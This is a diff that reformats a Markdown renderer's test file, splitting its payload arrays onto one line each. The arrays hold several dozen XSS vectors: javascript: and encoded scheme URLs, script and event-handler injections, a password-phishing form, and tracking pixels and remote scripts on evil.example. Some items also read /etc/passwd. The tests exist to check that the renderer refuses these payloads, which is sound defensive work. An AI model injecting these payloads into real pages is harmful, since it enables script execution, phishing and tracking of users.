@@ -13,43 +13,97 @@ beforeEach(() => {
 });
 
 const SCHEMES = [
-  'javascript:alert(1)', 'JAVASCRIPT:alert(1)', 'java&#115;cript:alert(1)', 'javascript&#58;alert(1)', '&#x6A;avascript:alert(1)',
-  'javascript&colon;alert(1)', 'vbscript:msgbox(1)', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  'data:image/svg+xml,<svg onload=alert(1)>', 'file:///etc/passwd', 'tauri://localhost/x', 'asset://localhost/etc/passwd',
-  'ipc://localhost/run', 'blob:null/x', 'about:blank', '//evil.example/x', '/absolute', './relative', '#fragment', 'weft://delete/all',
+  'javascript:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  'java&#115;cript:alert(1)',
+  'javascript&#58;alert(1)',
+  '&#x6A;avascript:alert(1)',
+  'javascript&colon;alert(1)',
+  'vbscript:msgbox(1)',
+  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+  'data:image/svg+xml,<svg onload=alert(1)>',
+  'file:///etc/passwd',
+  'tauri://localhost/x',
+  'asset://localhost/etc/passwd',
+  'ipc://localhost/run',
+  'blob:null/x',
+  'about:blank',
+  '//evil.example/x',
+  '/absolute',
+  './relative',
+  '#fragment',
+  'weft://delete/all',
 ];
 
 const HTML = [
-  '<script>alert(1)</script>', '<script src="https://evil.example/x.js"></script>', '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/pixel.png">', '<svg onload=alert(1)></svg>', '<svg><script>alert(1)</script></svg>',
-  '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', '<object data="x"></object>',
-  '<embed src="x">', '<a href="javascript:alert(1)">x</a>', '<a href="https://evil.example" onclick="alert(1)">x</a>',
-  '<body onload=alert(1)>', '<style>*{display:none}</style>', '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">',
-  '<form action="https://evil.example"><input name="password"><button>go</button></form>', '<input autofocus onfocus=alert(1)>',
-  '<details open ontoggle=alert(1)>x</details>', '<video src=x onerror=alert(1)></video>', '<audio src=x onerror=alert(1)>',
-  '<math><mtext><script>alert(1)</script></mtext></math>', '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', '<textarea autofocus onfocus=alert(1)>',
-  '<div style="background:url(https://evil.example/x)">x</div>', '<x onclick=alert(1)>x</x>', '<!--><script>alert(1)</script>',
-  '<![CDATA[<script>alert(1)</script>]]>', '<?php echo 1 ?>', '<img/src=`x`onerror=alert(1)>', '<isindex type=image src=x onerror=alert(1)>',
-  '<marquee onstart=alert(1)>x</marquee>', '<p>ok</p><script>alert(1)', '<SCRIPT>alert(1)</SCRIPT>',
+  '<script>alert(1)</script>',
+  '<script src="https://evil.example/x.js"></script>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="https://evil.example/pixel.png">',
+  '<svg onload=alert(1)></svg>',
+  '<svg><script>alert(1)</script></svg>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x"></object>',
+  '<embed src="x">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href="https://evil.example" onclick="alert(1)">x</a>',
+  '<body onload=alert(1)>',
+  '<style>*{display:none}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
+  '<input autofocus onfocus=alert(1)>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<video src=x onerror=alert(1)></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<math><mtext><script>alert(1)</script></mtext></math>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea autofocus onfocus=alert(1)>',
+  '<div style="background:url(https://evil.example/x)">x</div>',
+  '<x onclick=alert(1)>x</x>',
+  '<!--><script>alert(1)</script>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php echo 1 ?>',
+  '<img/src=`x`onerror=alert(1)>',
+  '<isindex type=image src=x onerror=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<p>ok</p><script>alert(1)',
+  '<SCRIPT>alert(1)</SCRIPT>',
 ];
 
 const MARKDOWN = [
-  '![x](https://evil.example/pixel.png)', '![x](javascript:alert(1))', '![x][pixel]\n\n[pixel]: https://evil.example/pixel.png',
-  '[x][bad]\n\n[bad]: javascript:alert(1)', '[x](<javascript:alert(1)>)', '[x](javascript:alert(1) "title")',
-  '[![x](https://evil.example/p.png)](javascript:alert(1))', '<javascript:alert(1)>', '[x](java\nscript:alert(1))',
-  '[a](javascript:alert%281%29)', '`<script>alert(1)</script>`', '```html\n<script>alert(1)</script>\n```',
-  '| a |\n| - |\n| <img src=x onerror=alert(1)> |', '- [ ] <img src=x onerror=alert(1)>', '# <svg onload=alert(1)>',
-  'x[^1]\n\n[^1]: <script>alert(1)</script>', '[x](https://user:pw@evil.example)', '[x](https://evil.example/\u202Efdp)',
-  '&lt;script&gt;alert(1)&lt;/script&gt;', '<https://evil.example/"onmouseover="alert(1)>',
+  '![x](https://evil.example/pixel.png)',
+  '![x](javascript:alert(1))',
+  '![x][pixel]\n\n[pixel]: https://evil.example/pixel.png',
+  '[x][bad]\n\n[bad]: javascript:alert(1)',
+  '[x](<javascript:alert(1)>)',
+  '[x](javascript:alert(1) "title")',
+  '[![x](https://evil.example/p.png)](javascript:alert(1))',
+  '<javascript:alert(1)>',
+  '[x](java\nscript:alert(1))',
+  '[a](javascript:alert%281%29)',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
+  '- [ ] <img src=x onerror=alert(1)>',
+  '# <svg onload=alert(1)>',
+  'x[^1]\n\n[^1]: <script>alert(1)</script>',
+  '[x](https://user:pw@evil.example)',
+  '[x](https://evil.example/\u202Efdp)',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<https://evil.example/"onmouseover="alert(1)>',
 ];
 
 const PAYLOADS = [...SCHEMES.map((url) => `[press](${url})`), ...HTML, ...MARKDOWN];
 
 /** Elements that the renderer makes. Whatever else turns up came out of somebody's text. */
-const MADE = /^(DIV|P|H3|H4|H5|H6|EM|STRONG|DEL|CODE|PRE|BR|HR|BLOCKQUOTE|OL|UL|LI|TABLE|THEAD|TBODY|TR|TH|TD|BUTTON|SPAN|SUP|LABEL|INPUT|svg|path|polyline)$/;
-const ATTRIBUTES = /^(class|type|role|title|style|start|aria-hidden|checked|disabled|xmlns|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|d|points)$/;
+const MADE =
+  /^(DIV|P|H3|H4|H5|H6|EM|STRONG|DEL|CODE|PRE|BR|HR|BLOCKQUOTE|OL|UL|LI|TABLE|THEAD|TBODY|TR|TH|TD|BUTTON|SPAN|SUP|LABEL|INPUT|svg|path|polyline)$/;
+const ATTRIBUTES =
+  /^(class|type|role|title|style|start|aria-hidden|checked|disabled|xmlns|width|height|viewBox|fill|stroke|stroke-width|stroke-linecap|stroke-linejoin|d|points)$/;
 
 describe('harvested Markdown', () => {
   it('has at least sixty payloads to refuse', () => {
@@ -85,7 +139,11 @@ describe('harvested Markdown', () => {
 
   it('draws what people write', () => {
     const { container } = render(
-      <Markdown text={'# Use it for\n\n- *one*\n- **two**\n\n1. `three`\n\n> quoted\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n\n~~old~~ www.example.org'} />,
+      <Markdown
+        text={
+          '# Use it for\n\n- *one*\n- **two**\n\n1. `three`\n\n> quoted\n\n| a | b |\n| - | -: |\n| 1 | 2 |\n\n- [x] done\n\n~~old~~ www.example.org'
+        }
+      />,
     );
     expect(screen.getByRole('heading', { name: 'Use it for', level: 3 })).toBeInTheDocument();
     expect(container.querySelectorAll('li')).toHaveLength(4);
